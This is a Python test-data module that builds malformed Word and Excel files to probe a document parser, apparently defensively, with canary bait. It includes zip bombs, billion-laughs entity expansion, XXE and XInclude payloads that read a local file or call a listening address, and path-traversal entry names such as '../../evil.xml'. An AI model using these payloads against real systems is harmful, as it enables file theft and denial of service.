"""Files made to do harm: each a whole Word file or workbook with one thing in it that no office program writes."""

import base64
import struct
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from random import Random
from typing import TypeAlias
from zipfile import ZIP_DEFLATED, ZipFile

Parts: TypeAlias = dict[str, bytes]

MEGABYTE = 1 << 20
_TYPES = "[Content_Types].xml"
_OUTSIDE = (
    *("image", "attachedTemplate", "oleObject", "frame", "subDocument", "hyperlink", "externalLink", "header"),
    *("customXml", "aFChunk", "worksheet", "sharedStrings", "theme", "footnotes", "officeDocument"),
)
_OTHER_TYPES = (
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"image/png",
    b"",
)
_NAMES = ("../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "a" * 300, "WORD/DOCUMENT.XML", "x//y.xml", "\u202e.xml")
_CELLS = (
    b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    b'<row r="9"><c r="A9" t="s"><v>99999999</v></c></row>',
    b'<row r="9"><c r="A9" t="s"><v>-1</v></c></row>',
    b'<row r="-1"><c r="ZZZZ0"><v>1e999999</v></c></row>',
    b'<row r="9"><c r="A9" t="d"><v>9999-99-99</v></c></row>',
    b'<row r="9"><c r="A9" t="n" s="99999"><v>1E+300</v></c></row>',
    b'<row r="9"><c r="A9"><f t="shared" si="7" ref="A1:XFD1048576">A9</f></c></row>',
    b'<row r="9"><c r="A9" t="e"><v>#REF!</v></c><c r="A9" t="b"><v>maybe</v></c></row>',
)


@dataclass(frozen=True)
class Bait:
    """What lies outside and must stay untouched: an address at which somebody listens, a file that holds a secret."""

    address: str
    file: str


Attack: TypeAlias = Callable[[Parts, Random, Bait], bytes]


def part_of_one_byte(parts: Parts, random: Random, bait: Bait) -> bytes:
    """Packs to nothing, unpacks to megabytes."""
    name = random.choice([*parts, "word/media/image1.png", "xl/media/image1.png", "customXml/item1.xml"])
    return zipped({**parts, name: random.choice((b"\0", b" ", b"<")) * random.randint(1, 60 * MEGABYTE)})


def elements_without_end(parts: Parts, random: Random, bait: Bait) -> bytes:
    """Noise keeps the part from being packed so well that its size alone gives it away."""
    noise = b"<!--" + base64.b64encode(random.randbytes(random.choice((0, 250_000)))) + b"-->"
    element = random.choice((b"<w:p/>", b"<row/>", b"<w:tc/>", b"<w:r><w:t>a</w:t></w:r>", b"<c><v>1</v></c>"))
    return zipped(_inserted(parts, random, noise + element * random.randint(1_000, 2_000_000)))


def elements_in_elements(parts: Parts, random: Random, bait: Bait) -> bytes:
    name, depth = random.choice(("w:sdt", "w:tbl", "w:p", "w:ins", "row", "x")), random.randint(100, 50_000)
    closing = f"</{name}>".encode() * (depth if random.random() < 0.5 else 0)
    return zipped(_inserted(parts, random, f"<{name}>".encode() * depth + closing))


def text_without_end(parts: Parts, random: Random, bait: Bait) -> bytes:
    text = base64.b64encode(random.randbytes(1000)) * random.randint(1, 20_000)
    piece = random.choice((b"<w:t>%s</w:t>", b'<w:p a="%s"/>', b"<v>%s</v>", b"<![CDATA[%s]]>", b"<!--%s-->"))
    return zipped(_inserted(parts, random, piece % text))


def zip_in_zip(parts: Parts, random: Random, bait: Bait) -> bytes:
    inner = zipped(parts)
    for _ in range(random.randint(0, 3)):
        inner = zipped({random.choice(("inner.docx", "word/document.xml", "xl/workbook.xml")): inner})
    name = random.choice([*parts, "inner.docx"])
    return zipped({**parts, name: inner}) if random.random() < 0.5 else zipped({name: inner})


def document_type(parts: Parts, random: Random, bait: Bait) -> bytes:
    """An entity that fetches something, or that grows."""
    grows = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    declared = random.choice(
        (
            f'<!ENTITY a SYSTEM "{bait.file}">',
            f'<!ENTITY a SYSTEM "{bait.address}/entity">',
            f'<!ENTITY % p SYSTEM "{bait.address}/parameter"> %p; <!ENTITY a "b">',
            f'<!ENTITY e0 "ha">{grows}<!ENTITY a "&e8;">',
        )
    )
    name = _xml_part(parts, random)
    text = f"<!DOCTYPE x [{declared}]>".encode() + parts[name].split(b"?>", 1)[-1]
    text = _inserted({name: text}, random, b"<w:t>&a;</w:t>")[name]
    encoded = text.decode(errors="replace").encode("utf-16") if random.random() < 0.2 else text
    return zipped({**parts, name: encoded})


def included_file(parts: Parts, random: Random, bait: Bait) -> bytes:
    where = random.choice((bait.file, f"{bait.address}/include"))
    piece = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{where}" parse="text"/>'
    style = f'<?xml-stylesheet type="text/xsl" href="{where}"?>'
    return zipped(_inserted(parts, random, random.choice((piece, style)).encode()))


def macros(parts: Parts, random: Random, bait: Bait) -> bytes:
    name = random.choice(("word/vbaProject.bin", "xl/vbaProject.bin", "word/vbaData.xml", "xl/VBAPROJECT.BIN"))
    return zipped({**parts, name: random.randbytes(500)})


def relations_outside(parts: Parts, random: Random, bait: Bait) -> bytes:
    """To another computer, to a file of this one, or out of the package."""
    rels = [name for name in parts if name.endswith(".rels")]
    added = "".join(
        f'<Relationship Id="x{number}" Type="http://x/relationships/{random.choice(_OUTSIDE)}" Target="{target}" '
        f'TargetMode="{random.choice(("External", "Internal", ""))}"/>'
        for number, target in enumerate(random.choices((f"{bait.address}/x", bait.file, "../../../x", "", "/"), k=5))
    ).encode()
    name = random.choice(rels)
    return zipped({**parts, name: parts[name].replace(b"</Relationships>", added + b"</Relationships>")})


def other_types(parts: Parts, random: Random, bait: Bait) -> bytes:
    """A workbook that says it is a document, a document without types, both in one."""
    if random.random() < 0.3:
        return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", **parts})
    if random.random() < 0.3:
        one, other = random.choices(sorted(parts), k=2)
        return zipped({**parts, one: parts[other], other: parts[one]})
    known = [kind for kind in _OTHER_TYPES if kind and kind in parts[_TYPES]]
    return zipped({**parts, _TYPES: parts[_TYPES].replace(known[0], random.choice(_OTHER_TYPES))})


def parts_without_end(parts: Parts, random: Random, bait: Bait) -> bytes:
    return zipped({**{f"word/{n}.xml": b"" for n in range(random.randint(500, 20_000))}, **parts})


def odd_names(parts: Parts, random: Random, bait: Bait) -> bytes:
    return zipped({**parts, **dict.fromkeys(random.sample(_NAMES, random.randint(1, 3)), b"<x/>")})


def odd_directory(parts: Parts, random: Random, bait: Bait) -> bytes:
    """Flags, methods and sizes that are not true of what is packed."""
    content = bytearray(zipped(parts))
    for _ in range(random.randint(1, 4)):
        entries = [at for at in range(len(content)) if content[at : at + 4] == b"PK\x01\x02"]
        at = random.choice(entries) + random.choice((8, 10, 16, 20, 24, 28, 42))
        struct.pack_into("<H", content, at, random.choice((0, 1, 8, 12, 93, 99, 0x7FFF, 0xFFFF)))
    return bytes(content)


def odd_cells(parts: Parts, random: Random, bait: Bait) -> bytes:
    rows = b"".join(random.choices(_CELLS, k=random.randint(1, 4))) * random.choice((1, 1, 1000))
    sheets = [name for name in parts if name.startswith("xl/worksheets/sheet")]
    if not sheets:
        spans = (b'<w:gridSpan w:val="999999999"/>', b'<w:gridBefore w:val="-7"/>', b'<w:sym w:char="zz"/>')
        return zipped(_inserted(parts, random, random.choice(spans)))
    name = random.choice(sheets)
    return zipped({**parts, name: parts[name].replace(b"</sheetData>", rows + b"</sheetData>")})


def odd_defined_names(parts: Parts, random: Random, bait: Bait) -> bytes:
    targets = ("Plan!$A$1:$XFD$1048576", "#REF!", "'[1]x'!$A$1", "sk_school__name", "", "A" * 5000, "'x!$Z$0")
    names = "".join(
        f'<definedName name="sk_school__name{random.choice(("", n))}">{random.choice(targets)}</definedName>'
        for n in range(random.choice((1, 50, 5000)))
    ).encode()
    name = "xl/workbook.xml"
    if name not in parts:
        mark = b'<w:bookmarkStart w:id="1" w:name="sk_school__name"/>' * 1000
        return zipped(_inserted(parts, random, mark))
    return zipped({**parts, name: parts[name].replace(b"<definedNames>", b"<definedNames>" + names)})


ATTACKS: tuple[Attack, ...] = (
    part_of_one_byte,
    elements_without_end,
    elements_in_elements,
    text_without_end,
    zip_in_zip,
    document_type,
    included_file,
    macros,
    relations_outside,
    other_types,
    parts_without_end,
    odd_names,
    odd_directory,
    odd_cells,
    odd_defined_names,
)


def zipped(parts: Parts) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _xml_part(parts: Parts, random: Random) -> str:
    """Most often one of those that hold the answers."""
    names = [name for name in parts if name.endswith((".xml", ".rels"))]
    main = [name for name in names if name.startswith(("word/document", "xl/workbook", "xl/worksheets/", "xl/shared"))]
    return random.choice(main if main and random.random() < 0.7 else names)


def _inserted(parts: Parts, random: Random, piece: bytes) -> Parts:
    """Between two elements, where it is still XML."""
    name = _xml_part(parts, random)
    content = parts[name]
    places = [at + 1 for at, sign in enumerate(content) if sign == ord(">")][2:-1] or [len(content)]
    at = random.choice(places)
    return {**parts, name: content[:at] + piece + content[at:]}
